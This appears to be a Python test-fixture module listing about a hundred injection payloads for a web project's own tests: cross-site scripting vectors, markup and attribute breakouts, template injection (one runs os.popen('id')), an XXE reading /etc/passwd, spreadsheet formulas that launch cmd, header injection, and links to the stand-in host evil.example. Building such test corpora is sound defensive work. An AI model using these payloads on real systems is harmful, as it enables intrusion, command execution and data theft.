"""A hundred texts that would do harm where they are taken for more than text. What they would run calls `alert`, which a browser tells of.

Whatever they would put into a page is an element, or an attribute with `hostile` in its name, that no page of ours has (`tests.helpers.console.FOREIGN`).
"""

_MEGABYTE = 1_000_000

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(2)</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script/hostile>alert(4)//",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<img src=x onerror=alert(8)>",
    "<img src=`x`onerror=alert(9)>",
    "<image src=x onerror=alert(10)>",
    "<body onload=alert(11)>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
    "<iframe src=javascript:alert(13)>",
    "<object data='javascript:alert(14)'></object>",
    "<embed src='javascript:alert(15)'>",
    "<video><source onerror=alert(16)></video>",
    "<details open ontoggle=alert(17)><summary hostile>x</summary></details>",
    "<input autofocus onfocus=alert(18)>",
    "<marquee onstart=alert(19)>x</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(20)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(21)>'>",
    "<a href='javascript:alert(22)' hostile>press</a>",
    "javascript:alert(23)",
    "data:text/html,<script>alert(24)</script>",
    "JaVaScRiPt&colon;alert(25)",
    "\x01javascript:alert(26)",
    "vbscript:msgbox(27)",
)

MARKUP = (
    "<b hostile>bold</b>",
    "</td></tr></table><h1 hostile>out of the table</h1>",
    "</pre></code></div></main></body></html><p hostile>after the end",
    "</textarea><script>alert(28)</script>",
    "</title><script>alert(29)</script>",
    "</style><script>alert(30)</script>",
    "</option></select><img src=x onerror=alert(31)>",
    "</time></a></svg><img src=x onerror=alert(32)>",
    "<!-- a comment that does not end",
    "<![CDATA[ a section that does not end",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<plaintext>",
    "<xmp>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=http://evil.example/><button hostile>press</button>",
    "<input name=csrf value=mine hostile>",
    "<p style='position:fixed;inset:0;background:red'>over it all",
    "<div hx-get=/api/webhooks hx-trigger=load hostile>",
    "<div id=main hostile></div>",
    "&lt;script&gt;alert(33)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(34)&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(35)%3C/script%3E",
    "\\u003cscript\\u003ealert(36)\\u003c/script\\u003e",
    "<Response><Message>never closed",
    "<Response><Message><Body>]]></Body></Message></Response>",
)

ATTRIBUTES = (
    '" hostile="1',
    "' hostile='1",
    '"><img src=x onerror=alert(37)>',
    "'><img src=x onerror=alert(38)>",
    '" onmouseover="alert(39)" autofocus onfocus="alert(40)',
    "` onmouseover=alert(41) hostile=`",
    '" style="position:fixed" hostile="',
    'x" data-live="http://evil.example/" hostile="',
    "x' hx-on:load='alert(42)' hostile='",
    '\\" hostile=\\"1',
)

TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{#  a comment that does not end",
    "#{7*7}<%= 7*7 %>[[${7*7}]]",
    "%s%n%(x)s{0}{name!r}",
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/","press")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
)

LETTERS = (
    "\0nul\0",
    "\x1b[31mred\x1b[0m \x07 \x08\x08",
    "\u202ereversed\u202c",
    "\u2066isolated\u2069 \u200fright to left\u200e",
    "שלום עולם مرحبا بالعالم",
    "a\u200b\u200b\u200cb\u200d\ufeffc",
    "line\u2028separator\u2029paragraph\u0085next",
    "a\r\nSet-Cookie: hostile=1\r\n\r\n<script>alert(43)</script>",
    "data: evil\n\nevent: changed\n\n",
    "😀" * 300,
    "👩\u200d👩\u200d👧\u200d👦" * 60,
    "Z" + "\u0301\u0317\u035c" * 200,
    "﷽" * 80,
    "\ufffd\ufffe\uffff",
    "\U000e0041\U000e0042 tagged",
    "\uff1cscript\uff1ealert(44)\uff1c/script\uff1e",
)

LONG = (
    "W" * 4_000,
    "https://long.example/" + "a" * 3_000,
    "x" * _MEGABYTE,
    "<b hostile>" * (_MEGABYTE // 11),
    "\n" * 2_000,
)

PAYLOADS = (*SCRIPTS, *MARKUP, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *LETTERS, *LONG)


def short(payload, most=2_000):
    """A payload as long as a field takes that is not a body: a header, a name, a part of a URL."""
    return payload[:most]


def on_the_wire(payload, most=2_000):
    """A payload as it can travel in a line of a head: nothing that ends the line, or that HTTP does not allow in one."""
    return "".join(" " if ord(each) < 32 or ord(each) == 127 else each for each in short(payload, most)).strip() or "blank"
